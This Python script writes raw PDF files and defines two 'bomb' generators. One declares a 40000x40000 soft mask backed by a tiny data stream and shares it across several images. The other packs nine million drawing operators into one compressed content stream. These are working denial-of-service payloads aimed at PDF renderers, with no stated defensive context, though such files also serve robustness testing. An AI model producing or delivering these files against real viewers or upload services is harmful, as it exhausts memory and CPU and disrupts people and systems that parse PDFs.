import zlib

def build_pdf(objects: list[bytes]) -> bytes:
    """objects[i] is the body of object i+1; object 1 must be the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)

def stream(dictionary: bytes, data: bytes, compress=True) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        dictionary += b" /Filter /FlateDecode"
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"

def smask_bomb(images=4, side=40000) -> bytes:
    # 1: catalog, 2: pages, 3: page, 4: content, 5: smask, 6..: images
    names = b" ".join(b"/Im%d %d 0 R" % (i, 6 + i) for i in range(images))
    content = b"".join(b"q 100 0 0 100 %d 0 cm /Im%d Do Q\n" % (i * 10, i) for i in range(images))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << " + names + b" >> >> /Contents 4 0 R >>",
        stream(b"", content),
        stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8" % (side, side), b"\x00" * 1000),
    ]
    for i in range(images):
        objs.append(stream(b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /SMask 5 0 R", b"\x00\x00\x00"))
    return build_pdf(objs)

def operator_bomb(count=9_000_000) -> bytes:
    content = b"0 0 1 1 re f\n" * count
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        stream(b"", content),
    ]
    return build_pdf(objs)
